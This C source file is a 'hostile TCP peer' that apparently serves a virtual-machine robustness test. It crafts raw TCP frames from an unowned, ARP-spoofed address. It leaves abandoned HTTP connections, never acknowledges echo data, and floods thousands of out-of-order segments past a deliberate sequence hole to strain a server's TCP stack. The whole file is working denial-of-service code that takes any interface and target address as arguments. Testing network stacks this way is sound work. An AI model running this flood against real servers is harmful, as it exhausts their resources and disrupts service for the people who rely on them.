// SPDX-License-Identifier: MIT
/*
 * netattack.c - a hostile TCP peer for the netattack VM case. From the kernel's side of the
 * hub, through an AF_PACKET socket, it speaks TCP with an IPv4 source address that no
 * interface has, so the kernel never sees a segment for it and sends no RST; it answers ARP
 * for that address itself. It then does what a peer should not:
 *
 *   - asks the HTTP service (port 80) for its page on many connections and vanishes without
 *     acknowledging anything, leaving connections the server has closed;
 *   - sends the echo service (port 7) one-byte segments in order and never acknowledges the
 *     echo;
 *   - on those echo connections and on more HTTP ones, leaves a hole at the next byte the
 *     server expects and sends thousands of segments beyond it, one byte each (and some of
 *     1000 bytes), round after round, for SECONDS at RATE frames a second.
 *
 * Then it leaves without a word (no FIN, no RST).
 *
 *   vv-netattack IF SRC_IP DST_IP SECONDS RATE
 *
 * Prints what it did ("established N refused N frames N rst N") on stdout; exits 1 if it
 * could not establish a single flooding connection.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "packet.h"

#define N_GET	  96 /* HTTP connections that ask for the page and vanish */
#define N_ECHO	  8  /* echo connections: in-order bytes never acknowledged, then the flood */
#define N_HOLE	  8  /* HTTP connections: the flood only */
#define N_CONNS	  (N_GET + N_ECHO + N_HOLE)
#define IN_ORDER  400  /* one-byte segments each echo connection sends in order */
#define SMALL	  3000 /* one-byte segments beyond the hole, per connection and round */
#define BIG	  20   /* ... then 1000-byte ones: zero-copy candidates */
#define BIG_LEN	  1000
#define SPORT0	  40000
#define HTTP_GET  "GET / HTTP/1.0\r\n\r\n"
#define FRAME_MAX 1514

enum kind { GET, ECHO, HOLE };
enum state { NEW, SYN_SENT, UP, REFUSED };

struct conn {
	enum kind kind;
	enum state state;
	uint16_t sport, dport;
	uint32_t iss, irs; /* our first sequence number, the server's */
	uint32_t hole;	   /* the byte we never send */
};

static int sock, ifindex;
static uint8_t mymac[6], dstmac[6];
static uint32_t src_ip, dst_ip; /* network order */
static struct conn conns[N_CONNS];
static unsigned long long frames, rsts;

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

static uint16_t get16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)get16(p) << 16 | get16(p + 2);
}

static uint32_t sum16(const uint8_t *p, size_t len, uint32_t sum)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += get16(p + i);
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void send_frame(const uint8_t *f, size_t len)
{
	struct sockaddr_ll sa = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};

	memcpy(sa.sll_addr, f, 6);
	while (sendto(sock, f, len, 0, (struct sockaddr *)&sa, sizeof(sa)) != (ssize_t)len) {
		if (errno != ENOBUFS)
			die("sendto");
		usleep(100); /* the qdisc is full */
	}
	frames++;
}

static void send_arp(uint16_t op, const uint8_t *tha, uint32_t tpa)
{
	uint8_t f[60] = {0};

	memcpy(f, op == 1 ? (const uint8_t *)"\xff\xff\xff\xff\xff\xff" : tha, 6);
	memcpy(f + 6, mymac, 6);
	put16(f + 12, ETH_P_ARP);
	put16(f + 14, 1);      /* Ethernet */
	put16(f + 16, 0x0800); /* IPv4 */
	f[18] = 6;
	f[19] = 4;
	put16(f + 20, op);
	memcpy(f + 22, mymac, 6);
	memcpy(f + 28, &src_ip, 4);
	if (op == 2)
		memcpy(f + 32, tha, 6);
	memcpy(f + 38, &tpa, 4);
	send_frame(f, sizeof(f));
}

/* One TCP segment of @c: @flags (FIN 1, SYN 2, RST 4, PSH 8, ACK 16), @len bytes of data. */
static void send_tcp(const struct conn *c, uint8_t flags, uint32_t seq, const uint8_t *data,
		     size_t len)
{
	uint8_t f[FRAME_MAX] = {0}, *ip = f + 14, *tcp = ip + 20;
	uint32_t sum;

	memcpy(f, dstmac, 6);
	memcpy(f + 6, mymac, 6);
	put16(f + 12, ETH_P_IP);
	ip[0] = 0x45;
	put16(ip + 2, (uint16_t)(40 + len));
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	memcpy(ip + 12, &src_ip, 4);
	memcpy(ip + 16, &dst_ip, 4);
	put16(ip + 10, fold(sum16(ip, 20, 0)));
	put16(tcp, c->sport);
	put16(tcp + 2, c->dport);
	put32(tcp + 4, seq);
	/* The acknowledgment never moves past the server's SYN: nothing it sends is taken. */
	put32(tcp + 8, flags & 2 ? 0 : c->irs + 1);
	tcp[12] = 5 << 4;
	tcp[13] = flags;
	put16(tcp + 14, 65535);
	if (len)
		memcpy(tcp + 20, data, len);
	sum = sum16(ip + 12, 8, IPPROTO_TCP + 20 + (uint32_t)len);
	put16(tcp + 16, fold(sum16(tcp, 20 + len, sum)));
	send_frame(f, len + 54 < 60 ? 60 : len + 54);
}

/* Handles what came: ARP for our address, and the server's SYN-ACKs and RSTs. */
static void receive(int ms)
{
	static uint8_t f[65536];
	struct pollfd p = {.fd = sock, .events = POLLIN};

	for (;;) {
		ssize_t n = recv(sock, f, sizeof(f), MSG_DONTWAIT);
		const uint8_t *ip = f + 14, *tcp;

		if (n < 0) {
			if (errno != EAGAIN)
				die("recv");
			if (ms <= 0 || poll(&p, 1, ms) <= 0)
				return;
			ms = 0;
			continue;
		}
		if (n >= 42 && get16(f + 12) == ETH_P_ARP && get16(f + 20) == 1 &&
		    !memcmp(f + 38, &src_ip, 4)) {
			uint32_t spa;

			memcpy(&spa, f + 28, 4);
			send_arp(2, f + 22, spa);
			continue;
		}
		if (n < 54 || get16(f + 12) != ETH_P_IP || ip[9] != IPPROTO_TCP ||
		    memcmp(ip + 16, &src_ip, 4) || memcmp(ip + 12, &dst_ip, 4))
			continue;
		tcp = ip + (ip[0] & 15) * 4;
		if (tcp + 20 > f + n)
			continue;
		for (unsigned i = 0; i < N_CONNS; i++) {
			struct conn *c = &conns[i];

			if (get16(tcp + 2) != c->sport || get16(tcp) != c->dport)
				continue;
			if (tcp[13] & 4) {
				rsts++;
				if (c->state == SYN_SENT)
					c->state = REFUSED;
			} else if ((tcp[13] & 0x12) == 0x12 && c->state == SYN_SENT &&
				   get32(tcp + 8) == c->iss + 1) {
				c->irs = get32(tcp + 4);
				c->state = UP;
				send_tcp(c, 16, c->iss + 1, NULL, 0);
				if (c->kind == GET)
					send_tcp(c, 16 | 8, c->iss + 1, (const uint8_t *)HTTP_GET,
						 strlen(HTTP_GET));
				for (uint32_t j = 0; c->kind == ECHO && j < IN_ORDER; j++)
					send_tcp(c, 16 | 8, c->iss + 1 + j, (const uint8_t *)"x",
						 1);
			}
			break;
		}
	}
}

/* Opens conns[from, to): SYNs, retried each second for up to 10 s. */
static void open_conns(unsigned from, unsigned to)
{
	double end = now() + 10, next = 0;

	for (;;) {
		bool waiting = false;

		for (unsigned i = from; i < to; i++) {
			if (conns[i].state != NEW && conns[i].state != SYN_SENT)
				continue;
			waiting = true;
			if (now() >= next) {
				conns[i].state = SYN_SENT;
				send_tcp(&conns[i], 2, conns[i].iss, NULL, 0);
			}
		}
		if (!waiting || now() > end)
			return;
		if (now() >= next)
			next = now() + 1;
		receive(20);
	}
}

static void parse_ip(const char *s, uint32_t *ret)
{
	struct in_addr a;

	if (inet_pton(AF_INET, s, &a) != 1) {
		fprintf(stderr, "vv-netattack: bad address '%s'\n", s);
		exit(2);
	}
	*ret = a.s_addr;
}

int main(int argc, char **argv)
{
	static uint8_t big[BIG_LEN];
	const char *what;
	unsigned secs, rate, up = 0, refused = 0;
	double start, end;

	if (argc != 6) {
		fprintf(stderr, "usage: vv-netattack IF SRC_IP DST_IP SECONDS RATE\n");
		return 2;
	}
	parse_ip(argv[2], &src_ip);
	parse_ip(argv[3], &dst_ip);
	secs = (unsigned)atoi(argv[4]);
	rate = (unsigned)atoi(argv[5]);
	setvbuf(stdout, NULL, _IOLBF, 0);

	sock = packet_open(argv[1], ETH_P_ALL, &ifindex, mymac, &what);
	if (sock < 0)
		die(what);

	/* The server's MAC: ask as SRC_IP, which also puts us in its ARP cache. */
	for (int tries = 0; tries < 50; tries++) {
		static uint8_t f[65536];
		ssize_t n;

		if (tries % 10 == 0)
			send_arp(1, NULL, dst_ip);
		usleep(100000);
		while ((n = recv(sock, f, sizeof(f), MSG_DONTWAIT)) >= 42) {
			if (get16(f + 12) == ETH_P_ARP && get16(f + 20) == 2 &&
			    !memcmp(f + 28, &dst_ip, 4)) {
				memcpy(dstmac, f + 22, 6);
				goto resolved;
			}
		}
	}
	fprintf(stderr, "vv-netattack: no ARP reply from %s\n", argv[3]);
	return 1;
resolved:
	srand((unsigned)time(NULL));
	for (unsigned i = 0; i < N_CONNS; i++) {
		struct conn *c = &conns[i];

		c->kind = i < N_GET ? GET : i < N_GET + N_ECHO ? ECHO : HOLE;
		c->sport = (uint16_t)(SPORT0 + i);
		c->dport = c->kind == ECHO ? 7 : 80;
		c->iss = (uint32_t)rand() << 1;
		c->hole = c->iss + 1 + (c->kind == ECHO ? IN_ORDER : 0);
	}
	/* Fewer at once than the server's connection limit: the GETs close their own. */
	for (unsigned i = 0; i < N_GET; i += 16)
		open_conns(i, i + 16 < N_GET ? i + 16 : N_GET);
	open_conns(N_GET, N_CONNS);
	for (unsigned i = 0; i < N_CONNS; i++) {
		up += conns[i].state == UP && conns[i].kind != GET;
		refused += conns[i].state != UP;
	}
	printf("established %u refused %u\n", up, refused);

	memset(big, 'y', sizeof(big));
	start = now();
	end = start + secs;
	for (unsigned round = 0; now() < end; round++) {
		for (unsigned j = 0; j < SMALL + BIG && now() < end; j++) {
			for (unsigned i = N_GET; i < N_CONNS; i++) {
				const struct conn *c = &conns[i];

				if (c->state != UP)
					continue;
				if (j < SMALL)
					send_tcp(c, 16, c->hole + 1 + j, big, 1);
				else
					send_tcp(c, 16, c->hole + 1 + SMALL + (j - SMALL) * BIG_LEN,
						 big, BIG_LEN);
			}
			/* Paced to RATE; ARP requests for our address are answered meanwhile. */
			while (frames > rate * (now() - start))
				receive(1);
			receive(0);
		}
		printf("round %u done at %.1f s\n", round, now() - start);
	}
	printf("established %u refused %u frames %llu rst %llu\n", up, refused, frames, rsts);
	return up ? 0 : 1;
}
